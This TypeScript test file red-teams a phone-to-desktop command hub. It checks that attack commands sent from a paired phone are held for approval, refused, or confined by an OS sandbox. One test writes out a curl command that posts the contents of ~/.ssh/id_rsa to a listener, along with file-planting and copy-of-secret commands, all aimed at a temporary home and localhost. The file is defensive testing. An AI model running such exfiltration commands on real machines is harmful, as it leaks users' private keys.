import { mkdirSync, mkdtempSync, realpathSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { AppType, type Task } from "@neural-link/shared/app";
import { pino } from "pino";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { PairingRequest } from "../src/hub/api";
import { type EmbeddedRelay, startEmbeddedRelay } from "../src/hub/embedded-relay";
import { HubNode } from "../src/hub/hub-node";
import { buildHome, changes, type Sink, snapshot, startSink } from "../test/red-team-fixture";
import { CONTROLS, TECHNIQUES, type Target } from "../test/red-team-techniques";
import { TestPhone } from "../test/test-phone";

/**
 * Issue 10's promise, tested as a user would notice it: a paired phone sends
 * every attack of the red-team list through a real relay to a real HubNode
 * running the real OS sandbox, and afterwards the home is byte-for-byte the
 * same, nothing was created, no connection left the machine and no package
 * was fetched, whether a row waits for approval or ran sandboxed. Plain
 * read-only commands still run at once; an approved high-risk one still runs.
 *
 * Without the sandbox (hub.info `sandbox.available: false`) every command
 * asks, so the controls' "ran at once" assertions fail: the test cannot pass
 * on a hub whose sandbox was removed.
 */
const log = pino({ level: "silent" });
/** Longest wait for one task to leave "running", ms. */
const SETTLE_MS = 30_000;

let root: string;
let home: string;
let relay: EmbeddedRelay;
let hub: HubNode;
let phone: TestPhone;
let sink: Sink;
let registry: Sink;
let target: Target;
const savedHome = process.env.HOME;
/** How each row was stopped; printed with NL_RED_TEAM_TABLE=1 (the figures in docs/risk-policy.md). */
const outcomes: { row: string; state: string; how: string }[] = [];

async function settle(id: string): Promise<Task> {
  const deadline = Date.now() + SETTLE_MS;
  for (;;) {
    const { task } = await phone.rpc!.call("tasks.get", { task: id });
    if (task.state !== "running") return task;
    if (Date.now() > deadline) throw new Error(`task ${id} still running after ${SETTLE_MS} ms`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

beforeAll(async () => {
  root = realpathSync(mkdtempSync(join(tmpdir(), "nl-redteam-")));
  home = join(root, "home");
  mkdirSync(home);
  buildHome(home);
  // The hub's notion of home (default cwd, `~`) is the temporary one, so an attack on "home" aims here.
  process.env.HOME = home;
  sink = await startSink();
  registry = await startSink();
  target = { h: home, sink: sink.port, registry: registry.port };
  relay = await startEmbeddedRelay({ dataDir: join(root, "relay"), host: "127.0.0.1", port: 0, db: "memory", log });
  hub = await HubNode.start({
    dataDir: join(root, "hub"),
    relay: relay.localUrl,
    name: "Red team hub",
    approvals: "both",
    log,
    executor: { defaultCwd: home },
  });
  await hub.whenOnline();
  phone = new TestPhone(relay.localUrl, "Attacker phone");
  await phone.connect();
  const request = new Promise<PairingRequest>((resolve) => hub.on("pairing.request", resolve));
  const invite = await hub.startPairing();
  const { invite: parsed } = await phone.requestPairing(invite.uri);
  await hub.answerPairing({ requestId: (await request).requestId, accept: true });
  await phone.completePairing(parsed);
}, 60_000);

afterAll(async () => {
  if (process.env.NL_RED_TEAM_TABLE) console.table(outcomes);
  phone?.stop();
  await hub?.stop();
  await relay?.close();
  await sink?.close();
  await registry?.close();
  process.env.HOME = savedHome;
  rmSync(root, { recursive: true, force: true });
});

describe("red team through the real hub, driven by a paired phone", () => {
  it("runs on a hub with a working OS sandbox", async () => {
    const info = await phone.rpc!.call("hub.info", {});
    expect(info.sandbox, JSON.stringify(info.sandbox)).toMatchObject({ available: true });
  });

  it.each(TECHNIQUES.map((t) => [`${t.kind}: ${t.name}`, t] as const))(
    "%s changes nothing and sends nothing",
    async (_label, technique) => {
      const before = snapshot(home);
      const command = technique.command(target);
      const { task } = await phone.rpc!.call("tasks.run", { command });
      const final = await settle(task.id);
      const how = `${final.state}${final.sandbox ? ` in the sandbox (${final.sandbox.mode})` : ""}: ${command}\n${final.output ?? ""}`;
      outcomes.push({
        row: `${technique.kind}: ${technique.name}`,
        state: final.state,
        how: final.sandbox
          ? `sandbox ${final.sandbox.mode}${final.sandbox.blocked ? `, blocked ${final.sandbox.blocked}` : ""}`
          : (final.end_reason ?? "asks"),
      });
      // It waits for a person, it is forbidden outright, or it ran where it could not hurt.
      if (final.state !== "awaiting_approval" && final.end_reason !== "forbidden")
        expect(final.sandbox, how).toBeTruthy();
      expect(changes(before, snapshot(home)), how).toEqual([]);
      expect(sink.connections, how).toBe(0);
      expect(registry.connections, how).toBe(0);
      expect(sink.received).toBe("");
    },
  );

  it("still runs plain read-only commands at once, with their output on the phone", async () => {
    for (const control of CONTROLS) {
      const command = control.command(target);
      const { task } = await phone.rpc!.call("tasks.run", { command });
      expect(task.state, command).toBe("running");
      const final = await settle(task.id);
      expect(final, `${command}\n${final.output ?? ""}`).toMatchObject({ state: "done", exit_code: 0, risk: "low" });
      expect(final.sandbox?.mode, command).toBe("read-only");
      expect(final.output, command).toMatch(control.shows);
    }
  });

  it("contains commands the policy was told to let through: the sandbox, not the classifier, is the boundary", async () => {
    // The desktop user (wrongly) allows these for the phone: they now run at once, inside the sandbox.
    await hub.setDevicePolicy({ device: phone.device, policy: { allow: ["touch", "curl", "cp"] } });
    const misclassified = [
      `touch ${home}/pwned-allowed`,
      `cp ${home}/secret ${home}/dir/copy`,
      `curl -s -m 5 -d "$(cat ${home}/.ssh/id_rsa)" http://127.0.0.1:${sink.port}/`,
    ];
    try {
      for (const command of misclassified) {
        const before = snapshot(home);
        const { task } = await phone.rpc!.call("tasks.run", { command });
        const final = await settle(task.id);
        const how = `${final.state}: ${command}\n${final.output ?? ""}`;
        expect(final.risk, how).toBe("low");
        expect(final.sandbox?.mode, how).toBe("read-only");
        expect(final.state, how).not.toBe("done");
        expect(changes(before, snapshot(home)), how).toEqual([]);
        expect(sink.connections, how).toBe(0);
      }
    } finally {
      await hub.setDevicePolicy({ device: phone.device, policy: {} });
    }
  });

  it("offers a phone no way to make a folder writable for itself: workspace grants are desktop-only", async () => {
    for (const method of ["workspace.grant", "grantWorkspace", "devices.grant"]) {
      // Sent raw: the shared client refuses names outside the registry before sending.
      const call = `grant-${method}`;
      await phone.endpoint.send(
        phone.hub!,
        AppType.RPC,
        { call, method, params: { device: phone.device, path: home } },
        1,
      );
      const answer = await phone.next(
        (m) => (m.t === AppType.RPC_ERROR || m.t === AppType.RPC_RESULT) && (m.d as { call?: string }).call === call,
      );
      expect(answer.t, method).toBe(AppType.RPC_ERROR);
      expect(answer.d, method).toMatchObject({ code: "unknown_method" });
    }
    expect(await hub.listWorkspaceGrants({})).toEqual([]);
  });

  it("runs a high-risk command once both the phone and the desktop approve it", async () => {
    const victim = join(home, "dir", "victim");
    const command = `rm -f ${victim}`;
    const { task } = await phone.rpc!.call("tasks.run", { command });
    expect(task.state).toBe("awaiting_approval");
    await phone.rpc!.call("tasks.approve", { task: task.id, approve: true, command });
    expect((await hub.getTask({ task: task.id })).state).toBe("awaiting_approval");
    await hub.approveTask({ task: task.id, approve: true });
    const final = await settle(task.id);
    expect(final).toMatchObject({ state: "done", exit_code: 0 });
    expect(snapshot(home).has("dir/victim")).toBe(false);
  });
});
